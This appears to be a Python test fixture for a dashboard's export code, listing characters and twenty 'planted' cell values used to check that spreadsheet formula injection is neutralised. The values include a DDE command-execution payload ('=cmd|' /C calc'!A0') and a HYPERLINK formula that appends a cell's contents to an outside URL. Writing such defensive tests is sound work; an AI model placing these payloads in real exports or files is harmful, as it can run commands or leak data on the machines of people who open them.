"""Labels that a spreadsheet could run, and an exhibit with any rows."""

from __future__ import annotations

from dashboard.exhibits.exhibit import Column, Exhibit, Stamp, Table

STARTERS = "=+-@|%\t\r"
#: Nothing, a space, and characters that cannot be seen.
BEFORE = ["", " ", "\u200b", "\u3000", "\ufeff", "\u00a0\u200d"]
FULL_WIDTH = "＝＋－＠｜％"
#: Twenty strings that begin a formula, a link or a command somewhere.
PLANTED = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1;"open")',
    "=cmd|' /C calc'!A0",
    "=SUM(1;2)",
    "@SUM(1,2)",
    "+1+1",
    "-1+1",
    "+A1",
    "|calc",
    "%0A=1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000+1+1",
    "＝1+1",
    "－1+1",
    "＠SUM(1,2)",
)
#: What a file of ``exhibit`` says around its rows, after its title.
ABOUT = [
    ("Shows", "People, all areas"),
    ("Unit", "people"),
    ("Protection", "Parts are protected."),
    ("Note", "A note, with a comma"),
    ("Description", "What it shows"),
    ("Source", "test"),
    ("Release", "2026-09-x, data to Sep 2026"),
    ("Handling", "INVENTED DATA"),
    ("View", "/?area=BD20#test.one"),
]


def exhibit(*rows: tuple[object, ...]) -> Exhibit:
    """An exhibit with these rows of a label and a number."""
    columns = (Column("label", "Label"), Column("people", "People", "people"))
    return Exhibit(
        id="test.one", title="=Title", subtitle="People, all areas", unit="people",
        figure={"form": "table"}, description="What it shows",
        table=Table(columns, rows),  # pyright: ignore[reportArgumentType]
        notes=("A note, with a comma", "Parts are protected."), source="Source: test",
        release=Stamp("2026-09-x", "invented", "INVENTED DATA", "Sep 2026", "Parts are protected."),
    )  # fmt: skip
